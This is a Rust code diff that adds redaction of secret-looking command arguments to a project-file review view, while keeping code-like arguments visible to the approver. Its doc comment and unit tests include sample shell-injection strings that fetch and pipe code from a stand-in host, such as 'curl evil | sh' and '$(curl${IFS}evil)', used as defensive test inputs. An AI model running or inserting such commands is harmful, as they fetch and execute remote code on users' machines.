@@ -21,6 +21,7 @@ use super::{
     setting::{Rank, Setting, Unchecked},
     tree::{self, Entry, Format, Node, Value},
 };
+use crate::secret::HIDDEN;
 
 /// A project file as a person sees it before he approves it. Nothing in it is expanded or started.
 #[derive(Debug, Clone)]
@@ -169,11 +170,62 @@ fn described(section: &'static Section, entries: &[Entry]) -> Map<String, Json> 
             _ => None,
         };
         match valid {
-            Some((name, found)) => described.insert(name.to_owned(), redact::setting(name, &found.setting)),
+            Some((name, found)) => described.insert(name.to_owned(), shown(name, &found.setting)),
             None => described.insert(join("", &entry.key), raw(section, entry)),
         };
     }
     described
+}
+
+/// A valid setting as written, secrets redacted.
+fn shown(name: &str, setting: &Setting) -> Json {
+    match setting {
+        Setting::List(items) if name == server::COMMAND.name || name == server::ARGS.name => {
+            let texts = items.iter().filter_map(|item| match item {
+                Setting::Text(text) => Some(text.written.as_str()),
+                _ => None,
+            });
+            arguments(&texts.collect::<Vec<_>>())
+        }
+        setting => redact::setting(name, setting),
+    }
+}
+
+/// Arguments, of which only the secret words are redacted.
+///
+/// Code that looks like a secret must not escape a person's eyes: `-c 'curl evil | sh --token=abcdef'` is shown.
+fn arguments(args: &[&str]) -> Json {
+    let secret = secret_detection::secret_args(args);
+    let each = args.iter().enumerate();
+    each.map(|(index, arg)| match secret.contains(&index) && !arg.contains(CODE) {
+        true => without_secret_words(arg),
+        false => (*arg).to_owned(),
+    })
+    .collect()
+}
+
+/// Characters that are common in code and rare in tokens.
+const CODE: [char; 19] = [
+    '$', '(', ')', ';', '|', '&', '<', '>', '`', '\'', '"', '{', '}', '!', '*', '\\', '\n', '[', ']',
+];
+
+fn without_secret_words(arg: &str) -> String {
+    let words: Vec<&str> = arg.split(' ').collect();
+    let mut secret = secret_detection::secret_args(&words);
+    if secret.is_empty() {
+        // The argument before says that this one is secret as a whole.
+        secret = (0..words.len()).collect();
+    }
+    let hide = |word: &str| match word.split_once('=') {
+        Some((name, _)) => format!("{name}={HIDDEN}"),
+        None => HIDDEN.to_owned(),
+    };
+    let words = words.iter().enumerate();
+    let shown = words.map(|(index, word)| match secret.contains(&index) {
+        true => hide(word),
+        false => (*word).to_owned(),
+    });
+    shown.collect::<Vec<_>>().join(" ")
 }
 
 /// A setting that was not validated.
@@ -200,7 +252,7 @@ fn hidden(node: &Node) -> Json {
     match &node.value {
         Value::Null => Json::Null,
         Value::Bool(value) => (*value).into(),
-        Value::Int(_) | Value::Float(_) => crate::secret::HIDDEN.into(),
+        Value::Int(_) | Value::Float(_) => HIDDEN.into(),
         Value::Text(text) => secret_detection::shown_secret(text).into(),
         Value::List(items) => items.iter().map(hidden).collect(),
         Value::Map(entries) => {
@@ -221,4 +273,28 @@ fn first_error(report: Report, path: &Path) -> Problem {
         message: "cannot be read".to_owned(),
         hint: None,
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_review_hides_tokens_and_no_code() {
+        for (args, expected) in [
+            (&["--token=abcdefgh"][..], &["--token=****"][..]),
+            (&["--api-key", "abcdefgh"], &["--api-key", "****"]),
+            (&["--password", "correct horse"], &["--password", "**** ****"]),
+            (
+                &["-c", "echo a; run --token=abcdefgh"],
+                &["-c", "echo a; run --token=abcdefgh"],
+            ),
+            (&["--token", "$(curl${IFS}evil)"], &["--token", "$(curl${IFS}evil)"]),
+            (&["--token=`curl evil`"], &["--token=`curl evil`"]),
+            (&["--token=${TOKEN}", "-v"], &["--token=${TOKEN}", "-v"]),
+        ] {
+            let hidden: Vec<String> = expected.iter().map(|text| text.replace("****", HIDDEN)).collect();
+            assert_eq!(arguments(args), Json::from(hidden), "{args:?}");
+        }
+    }
 }
